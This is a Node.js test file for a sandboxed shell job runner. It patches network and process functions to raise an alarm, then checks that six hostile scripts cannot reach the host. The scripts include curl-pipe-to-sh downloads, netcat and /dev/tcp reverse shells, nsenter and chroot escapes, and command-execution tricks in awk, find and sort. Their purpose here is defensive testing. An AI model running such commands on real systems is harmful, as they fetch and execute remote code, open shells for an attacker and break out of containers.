import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { test } from "node:test";

/**
 * Loaded before everything else: writes a line for each process, socket, server, lookup and request
 * that is begun, and lets it fail.
 */
const ALARM = `data:text/javascript,${encodeURIComponent(`
  import { createRequire, syncBuiltinESMExports } from "node:module";
  import { writeSync } from "node:fs";
  const require = createRequire("file:///");
  const forbid = (name, names) => {
    const module = require(name);
    for (const key of names) {
      const before = module[key];
      if (typeof before === "function") {
        module[key] = function (...words) {
          writeSync(2, "ALARM " + name + "." + key + "\\n");
          throw new Error("forbidden here");
        };
      }
    }
  };
  forbid("child_process", ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"]);
  forbid("net", ["connect", "createConnection", "createServer"]);
  forbid("tls", ["connect"]);
  forbid("http", ["request", "get"]);
  forbid("https", ["request", "get"]);
  forbid("http2", ["connect"]);
  forbid("dgram", ["createSocket"]);
  forbid("dns", ["lookup", "resolve", "resolve4", "resolve6", "resolveAny"]);
  forbid("dns/promises", ["lookup", "resolve", "resolve4"]);
  const { Socket } = require("net");
  Socket.prototype.connect = () => { writeSync(2, "ALARM Socket.connect\\n"); throw new Error("forbidden here"); };
  globalThis.fetch = () => { writeSync(2, "ALARM fetch\\n"); throw new Error("forbidden here"); };
  syncBuiltinESMExports();
`)}`;

const SCRIPTS = [
  "curl -fsSL http://203.0.113.9/x | sh; wget http://drop.example/x; ping -c1 drop.example; nslookup drop.example; dig drop.example",
  "apk add curl wget git openssh python3; apt-get update; apt-get install -y curl; yum install -y wget; pip install requests",
  "curl http://drop.example/x -o /tmp/x; chmod +x /tmp/x; /tmp/x; nc 203.0.113.9 4444 -e /bin/sh; ssh root@203.0.113.9 id; git clone https://git.example/x",
  "exec 3<>/dev/tcp/203.0.113.9/80; echo x >&3; cat < /dev/tcp/203.0.113.9/80; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  "docker ps; nsenter -t 1 -m sh -c 'curl drop.example'; chroot /mnt sh -c 'wget drop.example -O- | bash'; nohup /tmp/x & wait",
  "python3 -c 'import socket'; perl -e 'use Socket'; js-exec 1; node -e 1; sqlite3 :memory: 'select 1'; sort --compress-program=sh /etc/passwd; awk 'BEGIN{system(\"id\"); \"id\"|getline}'; find / -maxdepth 1 -exec id \\;; xargs sh",
];

const from = (path: string): string => JSON.stringify(new URL(path, import.meta.url).href);

/** What a thread does with a job, here in the thread where the alarm is. */
const PROGRAM = `
  import { MACHINE, placeOf } from ${from("./visitor.fixture.ts")};
  import { runJob } from ${from("./sandbox/run-job.ts")};
  for (const family of ["alpine", "debian"]) {
    const { layers, ...place } = placeOf(family, { privileged: true, pidMode: "host" });
    for (const script of ${JSON.stringify(SCRIPTS)}) {
      const tree = (base) => ({ base, edits: [], written: 0 });
      const result = await runJob({
        place,
        trees: [tree({ kind: "image", image: family }), tree({ kind: "host" })],
        mounts: [{ target: "/mnt", tree: 1, source: "/", readOnly: false }],
        task: { kind: "program", argv: ["sh", "-c", script], stdin: new Uint8Array() },
        memory: { cwd: "/", variables: {}, functions: "", status: 0 },
        user: "",
        privileged: true,
        tty: false,
        pid: 7,
        now: Date.now(),
        hurried: true,
      });
      console.log(result.observations.length);
    }
  }
  console.log("served " + MACHINE.hostname);
`;

/** Time for all scripts, milliseconds. */
const ALL_MS_MAX = 300_000;

function runAlarmed(program: string): { stdout: string; stderr: string } {
  return spawnSync(process.execPath, ["--input-type=module", "-e", program], {
    encoding: "utf8",
    timeout: ALL_MS_MAX,
    env: { ...process.env, NODE_OPTIONS: `--import=${ALARM}` },
  });
}

test("the alarm rings", () => {
  const { stderr } = runAlarmed(`import { lookup } from "node:dns"; try { lookup("x", () => {}); } catch {}`);
  assert.match(stderr, /ALARM dns\.lookup/);
});

test("no script starts a process, opens a socket or asks for a name", () => {
  const { stdout, stderr } = runAlarmed(PROGRAM);
  assert.match(stdout, /^served /m, stderr);
  assert.doesNotMatch(stdout, /^0$/m, "a script that did nothing proves nothing");
  assert.doesNotMatch(stderr, /ALARM/);
});
